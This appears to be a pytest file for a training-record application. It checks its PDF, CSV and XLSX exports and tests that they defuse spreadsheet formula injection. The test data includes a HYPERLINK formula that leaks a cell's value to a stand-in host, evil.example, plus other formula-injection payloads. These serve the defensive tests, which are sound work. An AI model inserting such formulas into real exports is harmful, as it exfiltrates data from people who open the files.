"""Training record exports as an auditor and a coordinator would check them: read the PDF back,
open the CSV and XLSX as Excel would, and try to smuggle formulas into them."""

from __future__ import annotations

import csv
import re
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from PIL import Image
from pypdf import PdfReader

from tests.helpers.pdf import embedded_fonts, rendered
from trainer_app.domain.errors import DomainError
from trainer_app.domain.records import (
    AssessmentResult,
    Completion,
    CompletionSource,
    EnrolmentStatus,
    Mark,
    MatrixStatus,
    RecordEntry,
    RequirementStatus,
    SessionAttendance,
    Standing,
    TrainingRecord,
)
from trainer_app.exports.cells import defused
from trainer_app.exports.record import (
    write_group_xlsx,
    write_record_csv,
    write_record_pdf,
    write_record_xlsx,
)

GENERATED = datetime(2025, 1, 15, 14, 3, tzinfo=UTC)
HUB = "LON · London Gene Therapy Innovation Hub"
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open evidence")'


def _completion(
    code: str,
    title: str,
    version: str,
    on: date,
    expires: date | None,
    source: CompletionSource,
    **extra: str,
) -> Completion:
    return Completion(
        id=abs(hash((code, on))) % 10_000,
        trainee_id=1,
        course_id=abs(hash(code)) % 100,
        course_code=code,
        course_title=title,
        course_version=version,
        completed_on=on,
        expires_on=expires,
        source=source,
        **extra,
    )


def _sessions(first: date, marks: Sequence[Mark | None], late: int = 0) -> list[SessionAttendance]:
    """Two sessions a day (09:00 and 13:30) from ``first``."""
    return [
        SessionAttendance(
            held_on=first + timedelta(days=i // 2),
            period_label=("09:00", "13:30")[i % 2],
            mark=mark,
            late_minutes=late if mark is Mark.LATE else 0,
        )
        for i, mark in enumerate(marks)
    ]


def make_record(
    name: str = "Siobhán Ní Bhriain",
    reference: str = "T-0042",
    *,
    comments: str = "Confident gowning; re-glove promptly after touching the door.",
    notes: str = "Imported from LON training matrix 2023.xlsx",
    provider: str = "Biologics Training Academy, Dublin",
    cohorts: Sequence[str] = ("MSc Cell and Gene Therapy 2024/25", "ATMP apprentices — spring"),
    extra_entries: int = 0,
) -> TrainingRecord:
    """A realistic record: imported, run and external history, and every matrix status."""
    present, late, absent = Mark.PRESENT, Mark.LATE, Mark.ABSENT
    entries = [
        RecordEntry(
            course_code="GDOC",
            course_title="Good documentation practice",
            course_version="2.0",
            cpd_hours=Decimal("3.0"),
            completion=_completion(
                "GDOC",
                "Good documentation practice",
                "2.0",
                date(2023, 2, 10),
                date(2025, 2, 10),
                CompletionSource.IMPORTED,
                notes=notes,
            ),
        ),
        RecordEntry(
            course_code="GOWN",
            course_title="Gowning qualification",
            course_version="2.1",
            cpd_hours=Decimal("3.5"),
            run_code="LON-GOWN-24A",
            enrolment_status=EnrolmentStatus.ENROLLED,
            first_day=date(2024, 3, 4),
            last_day=date(2024, 3, 5),
            sessions=_sessions(date(2024, 3, 4), [present, late, present], late=10),
            assessments=[
                AssessmentResult(
                    assessed_on=date(2024, 3, 5),
                    assessor="Dr Aoife Gallagher",
                    theory_score=None,
                    practical_passed=True,
                    comments=comments,
                )
            ],
            completion=_completion(
                "GOWN",
                "Gowning qualification",
                "2.1",
                date(2024, 3, 5),
                date(2025, 3, 5),
                CompletionSource.RUN,
                run_code="LON-GOWN-24A",
            ),
        ),
        RecordEntry(
            course_code="ASEP",
            course_title="Aseptic processing and media fills",
            course_version="3.0",
            cpd_hours=Decimal("14.0"),
            run_code="LON-ASEP-24B",
            enrolment_status=EnrolmentStatus.ENROLLED,
            first_day=date(2024, 6, 10),
            last_day=date(2024, 6, 13),
            sessions=_sessions(
                date(2024, 6, 10), [present, present, absent, present, present, None, present]
            ),
            assessments=[
                AssessmentResult(
                    assessed_on=date(2024, 6, 13),
                    assessor="Mariusz Kowalczyk",
                    theory_score=Decimal("62"),
                    practical_passed=False,
                    comments="Media fill contaminated (1 of 3 units); retake the practical.",
                ),
                AssessmentResult(
                    assessed_on=date(2024, 6, 27),
                    assessor="Mariusz Kowalczyk",
                    theory_score=Decimal("86.5"),
                    practical_passed=True,
                ),
            ],
            completion=_completion(
                "ASEP",
                "Aseptic processing and media fills",
                "3.0",
                date(2024, 6, 27),
                date(2026, 6, 27),
                CompletionSource.RUN,
                run_code="LON-ASEP-24B",
            ),
        ),
        RecordEntry(
            course_code="QC-ENDO",
            course_title="Endotoxin testing (LAL and rFC)",
            course_version="1.0",
            cpd_hours=Decimal("6.0"),
            completion=_completion(
                "QC-ENDO",
                "Endotoxin testing (LAL and rFC)",
                "1.0",
                date(2023, 11, 20),
                date(2026, 11, 20),
                CompletionSource.EXTERNAL,
                provider=provider,
                verified_by="Priya Raman",
                evidence_name="endotoxin-certificate-2023.pdf",
            ),
        ),
        RecordEntry(
            course_code="AAV-USP",
            course_title="AAV upstream processing",
            course_version="1.2",
            cpd_hours=Decimal("21.0"),
            run_code="LON-AAV-25A",
            enrolment_status=EnrolmentStatus.ENROLLED,
            first_day=date(2025, 1, 13),
            last_day=date(2025, 1, 17),
            sessions=_sessions(
                date(2025, 1, 13), [present, present, late, present, None, None, None, None], 25
            ),
        ),
        RecordEntry(
            course_code="CAR-T",
            course_title="CAR-T manufacturing: apheresis to fill",
            course_version="1.0",
            cpd_hours=Decimal("28.0"),
            run_code="LON-CART-25A",
            enrolment_status=EnrolmentStatus.WAITLISTED,
            first_day=date(2025, 3, 3),
            last_day=date(2025, 3, 7),
        ),
    ]
    refreshers = []
    for i in range(extra_entries):
        first = date(2022, 1, 10) + timedelta(days=7 * i)
        refreshers.append(
            RecordEntry(
                course_code=f"REF-{i + 1:02d}",
                course_title=f"Annual GMP refresher, module {i + 1}",
                course_version="1.0",
                cpd_hours=Decimal("2.5"),
                run_code=f"LON-REF-{i + 1:02d}",
                enrolment_status=EnrolmentStatus.ENROLLED,
                first_day=first,
                last_day=first + timedelta(days=1),
                sessions=_sessions(first, [present, present, late, absent], 5),
                assessments=[
                    AssessmentResult(
                        assessed_on=first + timedelta(days=1),
                        assessor="Dr Aoife Gallagher",
                        theory_score=Decimal("90"),
                        practical_passed=None,
                    )
                ],
            ),
        )
    entries = refreshers + entries

    def need(code: str, title: str, version: str, standing: Standing) -> RequirementStatus:
        return RequirementStatus(
            course_code=code, course_title=title, current_version=version, standing=standing
        )

    requirements = [
        need(
            "GDOC",
            "Good documentation practice",
            "2.0",
            Standing(MatrixStatus.EXPIRING, date(2025, 2, 10), "2.0"),
        ),
        need(
            "GOWN",
            "Gowning qualification",
            "2.1",
            Standing(MatrixStatus.EXPIRING, date(2025, 3, 5), "2.1"),
        ),
        need(
            "ASEP",
            "Aseptic processing and media fills",
            "3.0",
            Standing(MatrixStatus.VALID, date(2026, 6, 27), "3.0"),
        ),
        need(
            "QC-ENDO",
            "Endotoxin testing (LAL and rFC)",
            "1.1",
            Standing(MatrixStatus.RETRAIN, date(2026, 11, 20), "1.0"),
        ),
        need("AAV-USP", "AAV upstream processing", "1.2", Standing(MatrixStatus.ENROLLED)),
        need(
            "EM-CLEAN",
            "Environmental monitoring in grade A/B",
            "1.0",
            Standing(MatrixStatus.EXPIRED, date(2024, 12, 1), "1.0"),
        ),
        need("QP-REL", "Batch certification and release", "1.0", Standing(MatrixStatus.MISSING)),
    ]
    return TrainingRecord(
        reference=reference,
        name=name,
        hub=HUB,
        organisation="Thamesbridge Biologics Ltd",
        role="Manufacturing technician",
        trainee_type="Industry",
        email="s.nibhriain@thamesbridge.example",
        cohorts=tuple(cohorts),
        entries=entries,
        requirements=requirements,
        generated_at=GENERATED,
        generated_by="Jane Okafor (training coordinator)",
        database="trainer.db",
    )


def pdf_text(path: Path) -> list[str]:
    """Each page's text, runs of white space (line breaks in wrapped cells) made one space."""
    return [re.sub(r"\s+", " ", page.extract_text()) for page in PdfReader(path).pages]


# ----- PDF ---------------------------------------------------------------------------------


def test_pdf_shows_who_what_and_when(tmp_path: Path) -> None:
    path = tmp_path / "record.pdf"
    write_record_pdf(make_record(), path)

    reader = PdfReader(path)
    text = " ".join(pdf_text(path))
    for expected in [
        "Training record",
        "Siobhán Ní Bhriain",
        "T-0042",
        "Thamesbridge Biologics Ltd",
        "GOWN",
        "ASEP",
        "AAV-USP",
        "5 Mar 2024",  # gowning completed
        "5 Mar 2025",  # and expires
        "27 Jun 2026",
        "Expiring soon",
        "Missing",
        "Late 10 min",
        "Absent",
        "Not recorded",
        "86.5 %",
        "Fail",
        "Biologics Training Academy, Dublin",
        "Priya Raman",
        "page 1 of",
        "generated 15 Jan 2025 14:03 UTC by Jane Okafor",
    ]:
        assert expected in text, expected
    assert reader.metadata is not None
    assert reader.metadata.title is not None
    assert "Siobhán Ní Bhriain" in reader.metadata.title
    assert reader.metadata.author == "Jane Okafor (training coordinator)"
    assert reader.metadata.subject is not None
    assert HUB in reader.metadata.subject


def test_pdf_embeds_the_shipped_fonts_only(tmp_path: Path) -> None:
    path = tmp_path / "record.pdf"
    write_record_pdf(make_record(), path)

    fonts = embedded_fonts(path)
    assert fonts and all(fonts.values()), fonts
    assert any("NotoSans-Regular" in name for name in fonts)
    assert any("NotoSans-Bold" in name for name in fonts)
    assert not any("Helvetica" in name for name in fonts)


def test_a_long_history_runs_over_pages_with_the_footer_on_each(tmp_path: Path) -> None:
    path = tmp_path / "record.pdf"
    write_record_pdf(make_record(extra_entries=30), path)

    pages = pdf_text(path)
    assert len(pages) >= 4
    for number, text in enumerate(pages, start=1):
        assert f"page {number} of {len(pages)}" in text
        assert "Training record of Siobhán Ní Bhriain (T-0042)" in text
    assert "REF-30" in "".join(pages)


@pytest.mark.parametrize(
    ("name", "code"),
    [("Siobhán 😀 Ní Bhriain", "U+1F600"), ("ሀይሌ ገብረሥላሴ", "U+1200")],
)
def test_a_character_no_font_has_is_refused_and_nothing_is_written(
    tmp_path: Path, name: str, code: str
) -> None:
    path = tmp_path / "record.pdf"
    with pytest.raises(DomainError, match=re.escape(code)) as error:
        write_record_pdf(make_record(name=name), path)
    assert name in str(error.value)
    assert list(tmp_path.iterdir()) == []


def _ink(png: Path) -> float:
    """Share of pixels that are not (nearly) white."""
    with Image.open(png) as image:
        grey = image.convert("L")
        histogram = grey.histogram()
    return sum(histogram[:200]) / sum(histogram)


def test_names_in_any_script_print_in_the_shipped_fonts(tmp_path: Path) -> None:
    path = tmp_path / "record.pdf"
    record = make_record(
        name="ليلى حداد",
        reference="T-0107",
        comments="执行良好 — 李伟 (trainer shadow); Ελένη Παπαδοπούλου, Дмитрий Соколов",
        provider="מכון ויצמן למדע",
        cohorts=("한국 연수단 2025", "MSc Cell and Gene Therapy 2024/25"),
    )
    write_record_pdf(record, path)

    fonts = embedded_fonts(path)
    assert all(fonts.values()), fonts
    for family in ["NotoSansArabic", "NotoSansHebrew", "DroidSansFallback", "NanumGothic"]:
        assert any(family in name for name in fonts), family
    text = "".join(pdf_text(path))
    assert "Ελένη Παπαδοπούλου" in text
    assert "Дмитрий Соколов" in text
    # Arabic is drawn in its joined forms, not as isolated letters.
    assert any("\ufe70" <= char <= "\ufeff" for char in text)

    png = rendered(path, 60)
    assert 0.01 < _ink(png) < 0.5


def test_an_empty_record_still_exports_to_every_format(tmp_path: Path) -> None:
    empty = TrainingRecord(
        reference="T-0999",
        name="Ωmar Ørsted",
        hub=HUB,
        organisation="",
        role="",
        trainee_type="Visitor",
        email="",
        cohorts=(),
        entries=(),
        requirements=(),
        generated_at=datetime(2025, 1, 15, 14, 3),  # naive: taken as UTC
        generated_by="Jane Okafor",
    )
    write_record_pdf(empty, tmp_path / "empty.pdf")
    write_record_csv(empty, tmp_path / "empty.csv")
    write_record_xlsx(empty, tmp_path / "empty.xlsx")
    write_group_xlsx([], tmp_path / "none.xlsx", "Nobody yet")

    text = " ".join(pdf_text(tmp_path / "empty.pdf"))
    assert "No courses are required for this role." in text
    assert "No training recorded." in text
    assert "generated 15 Jan 2025 14:03 UTC by Jane Okafor · page 1 of 1" in text
    assert openpyxl.load_workbook(tmp_path / "empty.xlsx")["History"].max_row == 1
    summary = openpyxl.load_workbook(tmp_path / "none.xlsx")["Summary"]
    assert summary["A2"].value == "Title"
    assert summary["B2"].value == "Nobody yet"


# ----- CSV ---------------------------------------------------------------------------------


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_csv_opens_in_excel_with_any_script(tmp_path: Path) -> None:
    path = tmp_path / "record.csv"
    write_record_csv(
        make_record(name="Zoë Adeyemi-Łukasiewicz", cohorts=("李伟 cohort", "MSc 2024/25")), path
    )

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in path.read_bytes()
    rows = _csv_rows(path)
    assert len({len(row) for row in rows}) == 1  # one rectangle, as RFC 4180 expects
    assert rows[0][0] == "Training record"
    assert rows[1][:2] == ["Field", "Value"]
    fields = {row[0]: row[1] for row in rows[2:17]}
    assert fields["Name"] == "Zoë Adeyemi-Łukasiewicz"
    assert fields["Cohorts"] == "李伟 cohort; MSc 2024/25"
    assert fields["Generated at (UTC)"] == "2025-01-15 14:03"
    header = next(row for row in rows if row[:2] == ["Course code", "Course title"])
    assert "Status" in header
    history = rows.index(["Training history", *[""] * (len(rows[0]) - 1)])
    lines = [row for row in rows[history + 2 :] if row[0] == "GOWN"]
    kinds = [row[8] for row in lines]
    assert kinds == ["Session", "Session", "Session", "Assessment", "Completion"]
    assert lines[1][9:13] == ["2024-03-04", "13:30", "Late", "10"]
    assert lines[-1][9] == "2024-03-05"


@pytest.mark.parametrize("attack", [ATTACK, "+1+1", "@SUM(A1)", "-2+3", "\tcmd", "\r=1"])
def test_csv_defuses_formulas(tmp_path: Path, attack: str) -> None:
    path = tmp_path / "record.csv"
    write_record_csv(make_record(comments=attack, notes=attack, provider=attack), path)

    rows = _csv_rows(path)
    cells = [cell for row in rows for cell in row]
    assert cells.count("'" + attack) == 3
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]


def _number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", text) is not None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Siobhán", "Siobhán"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_defused(text: str, expected: str) -> None:
    assert defused(text) == expected


# ----- XLSX --------------------------------------------------------------------------------


def _no_formulas(book: openpyxl.Workbook) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_xlsx_has_its_sheets_with_real_dates_and_no_formulas(tmp_path: Path) -> None:
    path = tmp_path / "record.xlsx"
    write_record_xlsx(make_record(name="李伟", comments=ATTACK, notes="+1+1"), path)

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Trainee", "Standing", "History", "Signatures", "Audit history"]
    trainee = {row[0]: row[1] for row in book["Trainee"].iter_rows(min_row=2, values_only=True)}
    assert trainee["Name"] == "李伟"
    assert trainee["Generated at (UTC)"] == datetime(2025, 1, 15, 14, 3)

    standing = book["Standing"]
    assert standing.freeze_panes == "B2"
    assert standing["A1"].value == "Course code" and standing["A1"].font.b
    statuses = [row[3] for row in standing.iter_rows(min_row=2, values_only=True)]
    assert statuses[0] == "Expiring soon" and "Missing" in statuses
    assert standing["F2"].value == datetime(2025, 2, 10)
    assert standing["F2"].is_date

    history = book["History"]
    header = [cell.value for cell in history[1]]
    comments = header.index("Comments / notes") + 1
    values = [history.cell(row, comments).value for row in range(2, history.max_row + 1)]
    assert "'" + ATTACK in values
    assert "'+1+1" in values
    dates = [history.cell(row, header.index("Date") + 1) for row in range(2, history.max_row + 1)]
    assert all(cell.is_date for cell in dates if cell.value is not None)
    assert all(isinstance(cell.value, datetime) for cell in dates[:-1])
    _no_formulas(book)


def test_group_workbook_counts_every_trainee(tmp_path: Path) -> None:
    records = [
        make_record(),
        make_record("Zoë Adeyemi-Łukasiewicz", "T-0043", extra_entries=2),
        make_record("ليلى حداد", "T-0044", comments=ATTACK),
    ]
    path = tmp_path / "cohort.xlsx"
    write_group_xlsx(records, path, "MSc Cell and Gene Therapy 2024/25 — training record")

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Standing", "History"]
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Title"] == "MSc Cell and Gene Therapy 2024/25 — training record"
    assert summary["Trainees"] == 3
    assert summary["Generated at (UTC)"] == datetime(2025, 1, 15, 14, 3)
    assert summary["Status: Missing"] == 3
    assert summary["Status: Expiring soon"] == 6
    standing, history = book["Standing"], book["History"]
    assert standing.max_row == 1 + 3 * 7
    assert history.max_row == 1 + 6 + 8 + 6
    assert sum(v for k, v in summary.items() if str(k).startswith("Status: ")) == 21
    names = {row[1] for row in history.iter_rows(min_row=2, values_only=True)}
    assert names == {"Siobhán Ní Bhriain", "Zoë Adeyemi-Łukasiewicz", "ليلى حداد"}
    assert history.freeze_panes == "C2"
    _no_formulas(book)


@pytest.mark.parametrize(
    "name", ["राहुल शर्मा", "अर्जुन गुप्ता", "عمر المصري", "יעל מזרחי", "김민준", "李伟"]
)
def test_the_reference_after_a_name_in_any_script_reads_right_in_the_footer(
    tmp_path: Path, name: str
) -> None:
    """ "(TR-000042)" after a Devanagari name was drawn with the Devanagari font's glyph
    numbers (ReportLab shaped the whole word in the font of its bracket): the text read back
    is what each glyph drawn stands for, so garbled glyphs show here."""
    path = tmp_path / "record.pdf"
    write_record_pdf(make_record(name=name, reference="TR-000042"), path)

    for page in pdf_text(path):
        assert "(TR-000042) · generated 15 Jan 2025 14:03 UTC by Jane Okafor" in page
        assert not any(char in page for char in "\ufffd\uffff")
